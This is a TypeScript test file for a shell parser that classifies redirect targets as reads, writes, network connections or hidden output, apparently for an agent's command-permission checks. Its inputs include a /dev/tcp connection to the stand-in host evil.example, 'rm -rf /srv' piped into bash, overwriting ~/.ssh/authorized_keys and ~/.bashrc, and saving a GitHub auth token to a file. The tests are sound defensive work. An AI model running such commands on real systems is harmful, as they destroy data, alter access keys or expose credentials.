import { describe, expect, test } from "bun:test";
import { commandNamed, commandsOf, SHELL_HOME, viewOf } from "../../../support/shell.ts";
import { setTestLimit } from "../../../support/test-limit.ts";

setTestLimit();

describe("redirects", () => {
  test("> and >> targets are writes, < targets are reads; never paths or operands", () => {
    const sort = commandNamed("sort < in.txt > out.txt 2>> err.log", "sort");
    expect(sort).toMatchObject({ reads: ["in.txt"], writes: ["out.txt", "err.log"], operands: [], paths: [] });
  });

  test("~ in a redirect target is the home directory", () => {
    expect(commandNamed("echo x > ~/.bashrc", "echo").writes).toEqual([`${SHELL_HOME}/.bashrc`]);
  });

  test("an fd duplication is not a file", () => {
    expect(commandNamed("ls 2>&1 >/dev/null", "ls").writes).toEqual(["/dev/null"]);
  });

  test("a bare redirect is a command of its own that writes", () => {
    const [bare] = commandsOf("> ~/.ssh/authorized_keys");
    expect(bare).toMatchObject({ program: "", writes: [`${SHELL_HOME}/.ssh/authorized_keys`] });
  });

  test("/dev/tcp/host/port is a connection", () => {
    expect(commandNamed("cat < /dev/tcp/evil.example/4444", "cat").network).toEqual([{ host: "evil.example", port: 4444, scheme: "tcp" }]);
  });

  test("a here-string is stdin text: into a shell it is judged", () => {
    expect(commandNamed("bash <<< 'rm -rf /srv'", "rm").paths).toEqual(["/srv"]);
  });

  test("a redirect target only known at run time is unresolved or dynamic, never a silent nothing", () => {
    const view = viewOf('echo x > "$TARGET"');
    expect(view.unresolved.length > 0 || view.commands[0]!.dynamicArgs).toBe(true);
  });

  test("stdout sent to a file is not shown to the agent; stderr, /dev/stderr and fd duplications leave it shown", () => {
    const shown = (input: string) => commandNamed(input, "gh").outputShown;
    expect(shown("gh auth token")).toBe(true);
    expect(shown("gh auth token > token.txt")).toBe(false);
    expect(shown("gh auth token 1>> token.txt")).toBe(false);
    expect(shown("gh auth token &> /dev/null")).toBe(false);
    expect(shown("gh auth token 2> err.log")).toBe(true);
    expect(shown("gh auth token >&2")).toBe(true);
    expect(shown("gh auth token > /dev/stderr")).toBe(true);
    expect(shown("{ gh auth token; } > token.txt")).toBe(false);
    expect(shown("for i in 1; do gh auth token; done > token.txt")).toBe(false);
  });
});
